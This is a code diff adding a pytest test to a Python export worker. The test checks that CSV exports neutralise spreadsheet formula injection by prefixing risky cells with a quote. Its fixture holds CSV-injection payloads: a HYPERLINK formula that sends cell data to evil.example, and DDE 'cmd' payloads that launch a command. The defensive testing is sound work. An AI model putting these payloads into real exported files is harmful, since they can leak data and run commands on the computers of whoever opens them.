@@ -11,12 +11,13 @@ from typing import Any
 
 import orjson
 import pyarrow as pa
+import pyarrow.csv as pa_csv
 import pyarrow.parquet as pq
 import pytest
-from sqlalchemy import Engine, select
+from sqlalchemy import Engine, select, update
 from sqlalchemy.orm import Session as DbSession
 
-from tests.seeded import OTHER_APP_ID, Seed, seed, seed_committed
+from tests.seeded import OTHER_APP_ID, Round, Seed, seed, seed_committed
 from worker import exports
 from worker.catalog import SessionFilter
 from worker.db import make_sessionmaker
@@ -258,3 +259,49 @@ def test_unknown_kind_or_format_is_refused() -> None:
         exports.check("events", "csv")
     with pytest.raises(exports.ExportError, match="jsonl, csv, parquet"):
         exports.check("turns", "xlsx")
+
+
+FORMULAS = {
+    "room_id": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+    "user_id": "+cmd|' /C calc'!A0",
+    "agent_id": "-2+3+cmd|' /C calc'!A0",
+    "agent_name": "@SUM(1+1)*cmd|' /C calc'!A0",
+}
+SPOKEN = ["\tleading tab", "=1+1", "\rcarriage return", "- a dash is only text", "plain words", "@mention"]
+
+
+@pytest.mark.parametrize("kind", exports.KINDS)
+def test_csv_cells_that_could_start_a_formula_are_neutralised(
+    db: DbSession, settings: Settings, kind: str
+) -> None:
+    """Opened by real CSV readers (Python's csv, pyarrow's), every text cell a spreadsheet would run
+    as a formula starts with ``'``; the rest of the cell, and every other cell, is as it was spoken."""
+    formula = Seed(
+        key="inst-formulas",
+        app_id=OTHER_APP_ID,
+        room_id=FORMULAS["room_id"],
+        user_id=FORMULAS["user_id"],
+        agent_id=FORMULAS["agent_id"],
+        start=dt.datetime(2026, 11, 3, 9, tzinfo=dt.UTC),
+        rounds=[Round(SPOKEN[0], [SPOKEN[1]]), Round(SPOKEN[2], [SPOKEN[3]]), Round(SPOKEN[4], [SPOKEN[5]])],
+    )
+    seed(db, settings, [formula])
+    db.execute(update(Session).values(agent_name=FORMULAS["agent_name"]))
+    data = export(db, kind, "csv")
+
+    with_csv = list(csv.DictReader(io.StringIO(data.decode(), newline="")))
+    with_arrow = pa_csv.read_csv(
+        io.BytesIO(data), convert_options=pa_csv.ConvertOptions(strings_can_be_null=False)
+    ).to_pylist()
+    for rows in (with_csv, with_arrow):
+        assert rows
+        for row in rows:
+            for name, value in row.items():
+                if isinstance(value, str) and value:
+                    assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (name, value)
+        for name, original in FORMULAS.items():
+            if name in rows[0]:
+                assert {row[name] for row in rows} - {""} == {"'" + original}, name
+        if kind == "turns":
+            said = [row["text"] for row in rows]
+            assert said == ["'" + t if t[0] in "=+-@\t\r" else t for t in SPOKEN]
